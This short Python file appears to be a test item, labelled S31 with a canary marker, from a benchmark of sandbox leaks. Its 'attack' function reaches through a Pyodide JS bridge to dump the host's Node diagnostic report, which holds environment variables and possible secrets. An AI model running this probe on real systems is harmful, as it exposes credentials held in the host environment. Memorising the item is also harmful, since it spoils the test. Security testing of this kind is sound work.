"""The diagnostic report, which holds the environment.

id: S31
canary: secret
"""

import js


def attack(target):
    return js.JSON.stringify(js.process.report.getReport())[-20000:]
